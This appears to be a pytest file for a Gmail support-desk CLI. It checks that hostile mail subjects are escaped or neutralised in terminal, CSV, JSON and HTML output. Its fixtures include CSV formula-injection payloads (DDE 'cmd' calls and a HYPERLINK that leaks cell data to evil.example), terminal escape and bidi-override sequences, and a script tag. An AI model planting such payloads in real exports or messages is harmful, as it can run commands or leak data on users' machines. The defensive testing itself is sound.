"""Output is data, not markup: mail that tries to run something in the terminal or a spreadsheet, dates past
9999, flags from the classifier, and `report --html` to a place that cannot be written (issue 9 items 2-4).

Most tests read a hostile store written directly with Store (fast); the last one goes the whole way:
hostile .eml files (tests/fixtures/hostile/output/) delivered to the sandbox, swept, listed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from pathlib import Path

import pytest

from cli_run import invoke
from gmaildesk.errors import ExitCode
from gmaildesk.sweep.state import State
from gmaildesk.sweep.store import Checkpoint, JournalEntry, MessageFact, Store, ThreadRow

H = 3_600_000
NOW = 1_800_000_000_000
INT64_MAX = 2**63 - 1
FIXTURES = Path(__file__).parent / "fixtures" / "hostile" / "output"
WIDE = {"COLUMNS": "600"}  # one table row per line, so assertions see whole cells
# CliRunner's stdout is not a terminal, so tables come out as tsv unless the rich table is asked for.
TABLE = ["--format", "table"]
DESK = """\
version: 1
mailbox: support@example.com
departments:
  - name: Billing
    sla: {first_response: 4h, next_response: 8h}
"""

LINK = "[link=http://evil.example/login]Click to verify payment[/link]"
UNCLOSED = "Refund [/unclosed] please"
ESCAPES = "\x1b[2J\x1b[5mBlinking \x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\ \u202etxt.exe"
FORMULAS = {
    "f1": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
    "f2": "+cmd|' /C calc'!A0",
    "f3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f4": "-2+3+cmd|' /C calc'!A0",
    "f5": "\tcmd",
}


def _row(tid, subject, customer="ann@cust.test", *, first=NOW - 2 * H, due=NOW + 2 * H, dept="Billing", **kw):
    return ThreadRow(
        tid,
        state=State.NEW,
        department=dept,
        last_counted_id=f"m-{tid}",
        last_counted_side="customer",
        last_counted_at=first,
        first_customer_at=first,
        due_at=due,
        message_ids=[f"m-{tid}"],
        updated_at=NOW - H,
        subject=subject,
        customer=customer,
        waiting_since=first,
        messages=[MessageFact(f"m-{tid}", first, "customer", customer)],
        **kw,
    )


def _store(path: Path, rows, journal=()) -> None:
    with Store(path) as store:
        store.commit(Checkpoint(history_id="1", last_sweep_at=NOW - 60_000), rows, list(journal), "sweep-1")


def _set_flags(path: Path, flags: dict[str, str], message_flags: dict[str, str] = {}) -> None:  # noqa: B006
    """Flags as the sweep records them (JSON lists); the column is added when this store predates it."""
    db = sqlite3.connect(path)
    with db:
        for table, values in (("threads", flags), ("messages", message_flags)):
            if values and "flags" not in {r[1] for r in db.execute(f"PRAGMA table_info({table})")}:
                db.execute(f"ALTER TABLE {table} ADD COLUMN flags TEXT")
            for thread_id, raw in values.items():
                db.execute(f"UPDATE {table} SET flags = ? WHERE thread_id = ?", (raw, thread_id))
    db.close()


@pytest.fixture
def desk(tmp_path, monkeypatch):
    monkeypatch.setenv("GMAILDESK_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setattr("gmaildesk.cli.options.now_ms", lambda options: NOW)
    config = tmp_path / "desk.yaml"
    config.write_text(DESK)
    return config


@pytest.fixture
def hostile(tmp_path, desk):
    store = tmp_path / "s.sqlite"
    _store(
        store,
        [
            _row("h1", LINK, first=NOW - 5 * H),
            _row("h2", UNCLOSED, first=NOW - 4 * H),
            _row("h3", ESCAPES, "\u202emoc.live@nna\x1b[0m", first=NOW - 3 * H),
        ],
        [JournalEntry("h2", None, "new", f"customer wrote: {UNCLOSED} {ESCAPES}", NOW - 4 * H, "m-h2")],
    )
    return ["-c", str(desk), "--store", str(store)]


def _terminal_clean(text: str) -> None:
    for bad in ("\x1b", "\x9b", "\u202e", "\x07"):
        assert bad not in text, f"{bad!r} reached the terminal:\n{text}"


@pytest.mark.parametrize("fmt", ["table", "tsv"])
def test_rich_markup_in_a_subject_is_shown_literally(hostile, fmt):
    for command in (["threads"], ["show", "h1"], ["next"]):
        out = invoke([*command, *hostile, "--format", fmt], env=WIDE).stdout
        assert LINK in out, out  # the brackets are there: nothing was read as markup (no live link)
        _terminal_clean(out)


def test_an_unclosed_markup_tag_does_not_hide_the_queue(hostile):
    listing = invoke(["threads", *hostile, *TABLE], env=WIDE).stdout
    assert UNCLOSED in listing and LINK in listing and "3 conversations" in listing
    shown = invoke(["show", "h2", *hostile, *TABLE], env=WIDE).stdout
    assert UNCLOSED in shown  # in the thread row and in the journal's reason
    assert f"customer wrote: {UNCLOSED}" in shown


@pytest.mark.parametrize("fmt", ["table", "tsv"])
def test_escape_sequences_and_bidi_overrides_are_shown_escaped(hostile, fmt):
    for command in (["threads"], ["show", "h3"], ["show", "h2"], ["status"], ["report"]):
        out = invoke([*command, *hostile, "--format", fmt], env=WIDE).stdout
        _terminal_clean(out)
    listing = invoke(["threads", *hostile, "--format", fmt], env=WIDE).stdout
    assert "\\x1b[2J\\x1b[5mBlinking \\x1b]8;;http://evil.example/\\x1b\\click here" in listing
    assert "\\u202etxt.exe" in listing and "\\u202emoc.live@nna\\x1b[0m" in listing
    # --json is the exact data (json.dumps escapes every control and non-ASCII character).
    doc = json.loads(invoke(["threads", *hostile, "--json"]).stdout)
    assert {t["thread"]: t["subject"] for t in doc["threads"]} == {"h1": LINK, "h2": UNCLOSED, "h3": ESCAPES}
    _terminal_clean(invoke(["threads", *hostile, "--json"]).stdout)


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, desk):
    store = tmp_path / "f.sqlite"
    _store(
        store,
        [
            _row(tid, subject, customer=subject[::-1].strip() + "@x.test", first=NOW - (i + 1) * H)
            for i, (tid, subject) in enumerate(FORMULAS.items())
        ]
        + [_row("f6", "Refund =2+2", "=1+1@x.test", dept="@Billing", first=NOW - 9 * H)],
    )
    args = ["-c", str(desk), "--store", str(store)]
    rows = list(csv.DictReader(io.StringIO(invoke(["threads", *args, "--csv"]).stdout)))
    subjects = {r["thread"]: r["subject"] for r in rows}
    assert subjects["f1"] == "'" + FORMULAS["f1"] and subjects["f2"] == "'" + FORMULAS["f2"]
    assert subjects["f3"] == "'" + FORMULAS["f3"] and subjects["f4"] == "'" + FORMULAS["f4"]
    assert subjects["f5"] == "'\\x09cmd"  # OWASP: tab too; and the tab itself shows escaped
    assert subjects["f6"] == "Refund =2+2"  # only the first character makes a formula
    f6 = next(r for r in rows if r["thread"] == "f6")
    assert f6["customer"] == "'=1+1@x.test" and f6["department"] == "'@Billing"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(int(r["due_in_s"]) > 0 for r in rows)  # numbers stay numbers
    # Negative numbers are numbers, not text: an overdue due_in_s keeps its minus sign.
    store2 = tmp_path / "o.sqlite"
    _store(store2, [_row("o1", "late", due=NOW - H)])
    late = list(
        csv.DictReader(io.StringIO(invoke(["threads", "-c", str(desk), "--store", str(store2), "--csv"]).stdout))
    )
    assert late[0]["due_in_s"] == "-3600"
    # next --csv and report --csv go through the same writer.
    nxt = list(csv.DictReader(io.StringIO(invoke(["next", *args, "--csv"]).stdout)))
    assert [(r["thread"], r["customer"]) for r in nxt] == [("f6", "'=1+1@x.test")]
    report = list(csv.reader(io.StringIO(invoke(["report", *args, "--csv"]).stdout)))
    assert [r[0] for r in report[1:]] == ["'@Billing", "Billing", "total"]


def test_json_keeps_formulas_exact(tmp_path, desk):
    store = tmp_path / "f.sqlite"
    _store(store, [_row(tid, subject, first=NOW - (i + 1) * H) for i, (tid, subject) in enumerate(FORMULAS.items())])
    doc = json.loads(invoke(["threads", "-c", str(desk), "--store", str(store), "--json"]).stdout)
    assert {t["thread"]: t["subject"] for t in doc["threads"]} == FORMULAS


def test_dates_after_9999_never_crash_the_audit(tmp_path, desk):
    store = tmp_path / "d.sqlite"
    _store(
        store,
        [
            _row("d1", "from the far future", first=2**62, due=INT64_MAX),
            _row("d2", "deadline in year 19 million", first=NOW - H, due=NOW + 604_800_000 * 999_999_999),
            _row("d3", "before year 1", first=-(2**62), due=-(2**62)),
            _row("ok", "normal", first=NOW - H),
        ],
        [JournalEntry("d1", None, "new", "customer wrote", INT64_MAX, "m-d1")],
    )
    args = ["-c", str(desk), "--store", str(store)]
    for command in (
        ["threads"],
        ["show", "d1"],
        ["show", "d2"],
        ["show", "d3"],
        ["next"],
        ["status"],
        ["report", "--since", "36500d"],
        ["report", "--by", "week", "--since", "36500d"],
        ["threads", "--sort", "sla"],
        ["threads", "--csv"],
        ["report", "--csv", "--by", "week"],
    ):
        invoke([*command, *args], env=WIDE)
    listing = invoke(["threads", *args], env=WIDE).stdout
    assert "9999-12-31 23:59 UTC" in listing and "normal" in listing  # the desk names no zone: the suite runs in UTC
    doc = json.loads(invoke(["show", "d1", *args, "--json"]).stdout)
    assert doc["thread"]["due_at"] == "9999-12-31T23:59:59Z" and doc["history"][0]["at"] == "9999-12-31T23:59:59Z"
    assert doc["thread"]["due_in_s"] == (INT64_MAX - NOW) // 1000  # durations stay exact
    early = json.loads(invoke(["show", "d3", *args, "--json"]).stdout)["thread"]
    assert early["since"] == "0001-01-01T00:00:00Z"
    weeks = json.loads(invoke(["report", *args, "--by", "week", "--since", "36500d", "--json"]).stdout)
    assert "9999-W52" in [g["key"] for g in weeks["groups"]]


def test_a_huge_sla_in_desk_yaml_does_not_crash_an_old_store(tmp_path, desk):
    """H7 range-checks SLAs at load; a store swept before that may still hold the deadline it made."""
    store = tmp_path / "s.sqlite"
    _store(store, [_row("w1", "waiting", first=NOW - H, due=NOW + 999_999_999 * 604_800_000)])
    args = ["-c", str(desk), "--store", str(store)]
    assert "9999-12-31" in invoke(["next", *args], env=WIDE).stdout
    assert json.loads(invoke(["status", *args, "--json"]).stdout)["overdue"] == 0


@pytest.mark.parametrize("flag,command", [("--since", "report"), ("--older-than", "threads"), ("--max-age", "status")])
@pytest.mark.parametrize(
    "value", ["999999999999d", "99999999999999999999999999999999999999999999w", "36501d", "9" * 5000 + "d", "²s"]
)
def test_ages_out_of_range_are_usage_errors(hostile, flag, command, value):
    result = invoke([command, *hostile, flag, value], ExitCode.USAGE)
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert lines[0].startswith(f"Error: {flag}") and len(lines[0]) < 200, result.stderr


def test_flags_are_marked_listed_and_in_json(tmp_path, desk):
    store = tmp_path / "flags.sqlite"
    _store(
        store,
        [
            _row("p1", "Auto: claim for my car", first=NOW - 3 * H),
            _row("u1", "Refund approved", "boss@example.com", first=NOW - 2 * H),
            _row("n1", "plain", first=NOW - H),
        ],
    )
    _set_flags(
        store,
        {"p1": '["possibly_automatic"]', "u1": '["unverified_sender"]', "n1": "[]"},
        {"p1": '["possibly_automatic"]'},
    )
    args = ["-c", str(desk), "--store", str(store)]
    for fmt in ("table", "tsv"):
        lines = invoke(["threads", *args, "--format", fmt], env=WIDE).stdout.splitlines()
        assert "possibly automatic" in next(line for line in lines if "Auto: claim" in line)
        assert "unverified sender" in next(line for line in lines if "Refund approved" in line)
        assert "possibly" not in next(line for line in lines if "plain" in line)
    shown = invoke(["show", "p1", *args], env=WIDE).stdout
    assert "\nflags:" in shown and "possibly automatic\n" in shown and "customer (possibly automatic)" in shown
    doc = json.loads(invoke(["threads", *args, "--json"]).stdout)
    assert {t["thread"]: t["flags"] for t in doc["threads"]} == {
        "p1": ["possibly_automatic"],
        "u1": ["unverified_sender"],
        "n1": [],
    }
    detail = json.loads(invoke(["show", "p1", *args, "--json"]).stdout)
    assert detail["messages"][0]["flags"] == ["possibly_automatic"]
    table = list(csv.DictReader(io.StringIO(invoke(["threads", *args, "--csv"]).stdout)))
    assert {r["thread"]: r["flags"] for r in table} == {"p1": "possibly_automatic", "u1": "unverified_sender", "n1": ""}


def test_a_store_without_flags_reads_as_no_flags(tmp_path, desk):
    store = tmp_path / "old.sqlite"
    _store(store, [_row("o1", "older store")])
    db = sqlite3.connect(store)
    for table in ("threads", "messages"):
        if "flags" in {r[1] for r in db.execute(f"PRAGMA table_info({table})")}:
            db.execute(f"ALTER TABLE {table} DROP COLUMN flags")
    db.commit()
    db.close()
    args = ["-c", str(desk), "--store", str(store)]
    doc = json.loads(invoke(["show", "o1", *args, "--json"]).stdout)
    assert doc["thread"]["flags"] == [] and doc["messages"][0]["flags"] == []
    assert "older store" in invoke(["threads", *args], env=WIDE).stdout


def test_unreadable_flags_are_one_line_naming_the_store(tmp_path, desk):
    store = tmp_path / "bad.sqlite"
    _store(store, [_row("b1", "bad flags")])
    _set_flags(store, {"b1": "{not json"})
    result = invoke(["threads", "-c", str(desk), "--store", str(store)], ExitCode.ERROR)
    assert result.stderr.splitlines() == [
        f"Error: {store}: conversation b1: its flags are not a JSON list of names (the store was edited or damaged)",
        "Hint: move the file aside; the next sweep rebuilds it with a full scan",
    ]
    assert result.stdout == ""


# ---------------------------------------------------------------------------------------------- report --html
def test_html_into_a_missing_folder_is_refused_and_not_created(tmp_path, hostile):
    page = tmp_path / "no" / "such" / "dir" / "r.html"
    result = invoke(["report", *hostile, "--html", str(page)], ExitCode.USAGE)
    assert result.stderr.splitlines() == [
        f"Error: --html {page}: the folder {page.parent} does not exist",
        f"Hint: create it first (mkdir -p {page.parent}), or choose another --html FILE",
    ]
    assert not (tmp_path / "no").exists() and result.stdout == ""


def test_html_to_a_full_disk_is_one_line_error(hostile):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    result = invoke(["report", *hostile, "--html", "/dev/full"], ExitCode.ERROR)
    assert result.stderr.splitlines()[0] == "Error: cannot write /dev/full: No space left on device"
    assert os.path.exists("/dev/full") and not Path("/dev/full").is_file()  # written in place, never replaced


def test_html_failing_midway_leaves_the_old_page_and_no_partial_file(tmp_path, hostile, monkeypatch):
    page = tmp_path / "out" / "r.html"
    page.parent.mkdir()
    page.write_text("yesterday's report")
    page.chmod(0o640)

    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("gmaildesk.cli.audit.os.fsync", disk_full)
    result = invoke(["report", *hostile, "--html", str(page)], ExitCode.ERROR)
    assert result.stderr.splitlines()[0] == f"Error: cannot write {page}: No space left on device"
    assert page.read_text() == "yesterday's report" and os.listdir(page.parent) == ["r.html"]
    monkeypatch.undo()
    invoke(["report", *hostile, "--html", str(page)])
    assert page.read_text().startswith("<!DOCTYPE html>") and (page.stat().st_mode & 0o777) == 0o640
    assert os.listdir(page.parent) == ["r.html"]


def test_html_into_a_read_only_folder_is_one_line_error(tmp_path, hostile, monkeypatch):
    page = tmp_path / "r.html"

    def read_only(*args, **kwargs):  # root ignores folder modes, so the refusal is injected
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("gmaildesk.cli.audit.tempfile.mkstemp", read_only)
    result = invoke(["report", *hostile, "--html", str(page)], ExitCode.ERROR)
    assert result.stderr.splitlines()[0] == f"Error: cannot write {page}: Permission denied"
    assert not page.exists()


def test_html_page_shows_hostile_keys_as_text(tmp_path, desk):
    store = tmp_path / "s.sqlite"
    _store(store, [_row("x1", "s", dept="<script>alert(1)</script>[b]x[/b]\x1b[2J")])
    page = tmp_path / "r.html"
    invoke(["report", "-c", str(desk), "--store", str(store), "--html", str(page)], env=WIDE)
    text = page.read_text()
    assert "<script" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text


# ---------------------------------------------------------------------------------------------- end to end
def test_hostile_mail_delivered_swept_and_listed(sandbox, tmp_path, monkeypatch):
    """The real path: .eml files delivered by the sandbox, the sweep reads them with the real client,
    `threads` shows them escaped, `--csv` neutralised, `--json` exact."""
    monkeypatch.setenv("GMAILDESK_DATA_DIR", str(tmp_path / "data"))
    config = tmp_path / "desk.yaml"
    config.write_text(DESK)
    common = ["-c", str(config), "--endpoint", sandbox.url]
    invoke(["apply", "--yes", "--skip-tests", *common])
    files = sorted(FIXTURES.glob("*.eml"))
    assert len(files) == 4
    invoke(["sandbox", "deliver", "--endpoint", sandbox.url, *map(str, files)])
    invoke(["sweep", *common, "--quiet"])
    listing = invoke(["threads", *common, *TABLE], env=WIDE).stdout
    _terminal_clean(listing)
    assert LINK in listing and UNCLOSED in listing and "4 conversations" in listing
    assert "\\x1b[2J\\x1b[5mBlinking" in listing and "\\u202etxt.exe" in listing
    doc = json.loads(invoke(["threads", *common, "--json"]).stdout)
    subjects = {t["subject"] for t in doc["threads"]}
    assert {LINK, UNCLOSED, ESCAPES} <= subjects
    formula = next(s for s in subjects if s.startswith("=HYPERLINK"))
    rows = list(csv.DictReader(io.StringIO(invoke(["threads", *common, "--csv"]).stdout)))
    assert "'" + formula in {r["subject"] for r in rows}
    thread = next(t["thread"] for t in doc["threads"] if t["subject"] == ESCAPES)
    shown = invoke(["show", thread, *common], env=WIDE).stdout
    _terminal_clean(shown)
    assert "\\x1b]8;;http://evil.example/" in shown


def test_errors_quoting_what_was_typed_or_read_are_escaped(hostile):
    result = invoke(["show", "\x1b]8;;http://evil.example/\x1b\\x\x1b]8;;\x1b\\", *hostile], ExitCode.USAGE)
    _terminal_clean(result.stderr)
    assert result.stderr == "Error: '\\x1b]8;;http://evil.example/\\x1b\\x\\x1b]8;;\\x1b\\' is not a thread id\n"


def test_plan_shows_hostile_values_from_gmail_escaped(sandbox, gmail, tmp_path, monkeypatch):
    """The plan quotes what Gmail holds (the responder's subject, a label it will not delete)."""
    monkeypatch.setenv("GMAILDESK_DATA_DIR", str(tmp_path / "data"))
    gmail.settings().updateVacation(
        userId="me", body={"enableAutoReply": True, "responseSubject": "Away \x1b[2J now", "responseBodyPlainText": "x"}
    ).execute()
    gmail.labels().create(userId="me", body={"name": "Dept/Bill\x1b[5ming \u202eevil"}).execute()
    config = tmp_path / "desk.yaml"
    config.write_text(DESK + "auto_ack:\n  enabled: true\n  body_text: hello\n")
    out = invoke(["plan", "-c", str(config), "--endpoint", sandbox.url]).stdout
    _terminal_clean(out)
    assert "Away \\x1b[2J now" in out and "Dept/Bill\\x1b[5ming \\u202eevil" in out
